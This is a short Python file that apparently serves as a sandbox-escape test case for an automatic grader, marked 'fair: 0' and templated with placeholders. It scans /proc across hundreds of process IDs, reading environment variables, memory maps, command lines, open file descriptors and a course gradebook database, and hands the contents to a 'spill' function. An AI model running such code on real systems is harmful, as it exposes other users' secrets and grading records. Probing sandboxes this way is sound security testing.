# Reads the environments, the memory and the open files of other processes.
# with: spill
# fair: 0
# %% end
import os
for number in ["self", "1", "@marker@", str(os.getppid()), *map(str, range(2, 400))]:
    for name in ("environ", "maps", "cmdline", "root/@course@/gradebook.db", "cwd/gradebook.db", "fd/3", "fd/4"):
        try:
            with open(f"/proc/{number}/{name}", "rb") as file:
                spill(file.read(1 << 22))
        except OSError:
            pass
